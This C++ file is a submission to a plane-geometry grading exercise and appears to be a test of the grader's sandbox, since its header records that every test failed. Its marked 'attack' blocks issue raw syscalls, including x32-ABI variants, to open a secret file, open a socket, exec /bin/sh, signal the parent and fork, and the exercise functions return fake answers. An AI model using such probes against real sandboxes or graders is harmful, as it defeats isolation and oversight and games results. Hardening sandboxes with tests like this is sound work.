// Tries:     asks the kernel itself, past the C library, for processes, files, sockets and
//            another program; also under the numbers of x32
// Exercise:  01_planes/signed_distance
// Points:    0 of 8
// Tests:     all failed or stopped
#include "signed_distance.hpp"

//[attack
#include <sys/syscall.h>
#include <unistd.h>
#include <cstdio>

namespace {

// Success is seen: the grader keeps what is printed.
void got(const char* what) { dprintf(1, "GOT IT: %s\n", what); }

long kernel(long number, long a = 0, long b = 0, long c = 0) {
  long result;
  asm volatile("syscall"
               : "=a"(result)
               : "a"(number), "D"(a), "S"(b), "d"(c)
               : "rcx", "r11", "memory");
  return result;
}

void ask() {
  static const char secret[] = "@SECRET@", shell[] = "/bin/sh";
  for (const long abi : {0L, 0x40000000L}) {
    if (kernel(abi | SYS_open, reinterpret_cast<long>(secret), 0) >= 0) got("a file");
    if (kernel(abi | SYS_socket, 2, 1) >= 0) got("a socket");
    if (kernel(abi | SYS_execve, reinterpret_cast<long>(shell)) >= 0) got("a program");
    if (kernel(abi | SYS_kill, kernel(SYS_getppid), 0) >= 0) got("a signal");
    const long child = kernel(abi | SYS_fork);
    if (child > 0) got("a process");
    if (child == 0) _exit(0);
  }
}

}  // namespace
//]attack

namespace exercise {

double signed_distance(const PlaneEquation& plane, const Eigen::Vector3d& point) {
  //[attack
  ask();
  return 1;
  //]attack
  const Eigen::Vector3d normal(plane.a, plane.b, plane.c);
  return (normal.dot(point) + plane.d) / normal.norm();
}

int side(const PlaneEquation& plane, const Eigen::Vector3d& point) {
  //[attack
  ask();
  return 1;
  //]attack
  const double value = Eigen::Vector3d(plane.a, plane.b, plane.c).dot(point) + plane.d;
  return value > 0 ? 1 : (value < 0 ? -1 : 0);
}

}  // namespace exercise
